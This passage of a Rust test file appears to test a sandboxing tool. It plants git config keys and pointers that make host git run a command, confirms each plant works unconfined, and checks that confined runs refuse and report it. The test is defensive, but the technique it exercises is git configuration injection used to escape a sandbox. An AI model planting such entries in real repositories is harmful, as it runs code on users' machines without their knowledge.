            .nth(1)
            .map(|r| PathBuf::from(r.split(['\'', '\\']).next().unwrap_or_default()))
    };
    let marker = marker_of(&p.shell);
    // Unconfined: the plant must be live for the host's git.
    let free = superproject(world, &format!("free-plant-{n}"));
    let o = Command::new("bash")
        .args(["-c", &shell])
        .current_dir(&free)
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("HOME", world.home())
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    if !o.status.success() {
        return Err(format!("{}: the plant fails unconfined: {o:?}", p.name));
    }
    let (dir, args, shows) = &p.proof;
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let proof = host_git(world, &free.join(dir), &args);
    match shows {
        Some(text) => {
            let got = String::from_utf8_lossy(&proof.stdout);
            if !got.contains(text.as_str()) {
                return Err(format!(
                    "{}: unconfined, host git does not read the plant ({got:?}), so it proves nothing: {proof:?}",
                    p.name
                ));
            }
        }
        None => {
            let m = marker.clone().ok_or("no marker")?;
            if !m.exists() {
                return Err(format!(
                    "{}: unconfined, host git did not run the planted command: {proof:?}",
                    p.name
                ));
            }
            fs_err::remove_file(&m).unwrap();
        }
    }
    // Confined: refused whole, reported, nothing applied.
    let jail = superproject(world, &format!("jail-plant-{n}"));
    let o = world.exec(mode, "workspace", &jail, &shell);
    let ctx = || format!("{} [{mode:?}]: {o:#?}", p.name);
    let r = o
        .report
        .as_ref()
        .ok_or_else(|| format!("no report: {}", ctx()))?;
    if r["workspace"]["verdict"] != "refused" {
        return Err(format!("not refused: {}", ctx()));
    }
    if !violation_names(&o, p.path) {
        return Err(format!(
            "no fs-write violation naming {}: {}",
            p.path,
            ctx()
        ));
    }
    if !r["workspace"]["reasons"].to_string().contains(&p.reason) {
        return Err(format!("the reasons do not name {}: {}", p.reason, ctx()));
    }
    if p.path != ".git/config" && jail.join(p.path).exists() {
        return Err(format!("{} reached the project: {}", p.path, ctx()));
    }
    let config = fs_err::read_to_string(jail.join(".git/config")).unwrap();
    if config.contains("touch ") || jail.join(".git/modules").exists() {
        return Err(format!("the project's git changed: {config}: {}", ctx()));
    }
    // And the host's git, run as the user would, runs nothing.
    host_git(world, &jail, &["status"]);
    if let Some(m) = marker.filter(|m| m.exists()) {
        return Err(format!(
            "host git ran the plant ({}): {}",
            m.display(),
            ctx()
        ));
    }
    Ok(())
}

fn git_plants_refused(mode: Mode) {
    if !available(mode) {
        return;
    }
    let world = World::new();
    git_home(&world);
    let outside = world.root().join("outside.git");
    host_git_ok(
        &world,
        world.root(),
        &["init", "-q", "--bare", &outside.display().to_string()],
    );
    let failures: Vec<String> = git_plants(&world, &outside)
        .iter()
        .enumerate()
        .filter_map(|(n, p)| check_git_plant(&world, mode, n, p).err())
        .collect();
    assert!(
        failures.is_empty(),
        "{} git plant(s) failed:\n{}",
        failures.len(),
        failures.join("\n\n")
    );
}

#[test]
fn planted_git_keys_and_pointers_are_refused_on_the_overlay() {
    git_plants_refused(Mode::Bwrap);
}

#[test]
fn planted_git_keys_and_pointers_are_refused_on_the_copy() {
    git_plants_refused(Mode::Native);
}
